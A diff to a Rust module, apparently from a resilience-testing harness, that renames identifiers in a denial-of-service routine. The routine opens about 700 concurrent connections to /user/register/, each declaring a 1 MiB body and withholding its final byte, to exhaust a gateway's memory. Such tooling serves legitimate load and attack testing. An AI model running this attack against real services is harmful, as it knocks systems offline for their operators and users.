@@ -1,30 +1,30 @@
-//! Registrations of a MiB each, all but the last byte.
+//! Registrations with a body of 1 MiB each, of which the last byte is never sent.
 
 use std::{sync::Arc, time::Duration};
 
 use tokio::{io::AsyncWriteExt as _, time::sleep};
 
-use super::talk::{post_head, until_cut};
-use crate::besiegers::{Ground, crowd};
+use super::raw_http::{post_head, read_until_closed};
+use crate::context::{AttackContext, run_concurrently};
 
-/// With a MiB each, nearly what a gateway may use where the charts run it.
+/// Together nearly the memory that a gateway may use if the charts run it.
 const CONNECTIONS: usize = 700;
-const LENGTH: usize = 1 << 20;
+const LENGTH_BYTES: usize = 1 << 20;
 const PAUSE: Duration = Duration::from_millis(200);
 
-pub(super) async fn run(ground: Arc<Ground>) {
-    let body: Arc<[u8]> = vec![b' '; LENGTH - 1].into();
-    crowd(ground.count(CONNECTIONS), |_| one(Arc::clone(&ground), Arc::clone(&body))).await;
+pub(super) async fn run(context: Arc<AttackContext>) {
+    let body: Arc<[u8]> = vec![b' '; LENGTH_BYTES - 1].into();
+    run_concurrently(context.scaled(CONNECTIONS), |_| attack(Arc::clone(&context), Arc::clone(&body))).await;
 }
 
-async fn one(ground: Arc<Ground>, body: Arc<[u8]>) {
-    let from = ground.address(0, 1);
-    for _ in 0..ground.calls_max {
-        let Some(mut stream) = ground.connect(from).await else { continue };
-        let sent = stream.write_all(&post_head("/user/register/", LENGTH)).await.is_ok()
+async fn attack(context: Arc<AttackContext>, body: Arc<[u8]>) {
+    let from = context.address(0, 1);
+    for _ in 0..context.calls_max {
+        let Some(mut stream) = context.connect(from).await else { continue };
+        let sent = stream.write_all(&post_head("/user/register/", LENGTH_BYTES)).await.is_ok()
             && stream.write_all(&body).await.is_ok();
-        let status = until_cut(&mut stream).await;
-        ground.saw(status.as_deref().unwrap_or(if sent { "cut" } else { "cut at once" }));
+        let status = read_until_closed(&mut stream).await;
+        context.observe(status.as_deref().unwrap_or(if sent { "cut" } else { "cut at once" }));
         sleep(PAUSE).await;
     }
 }
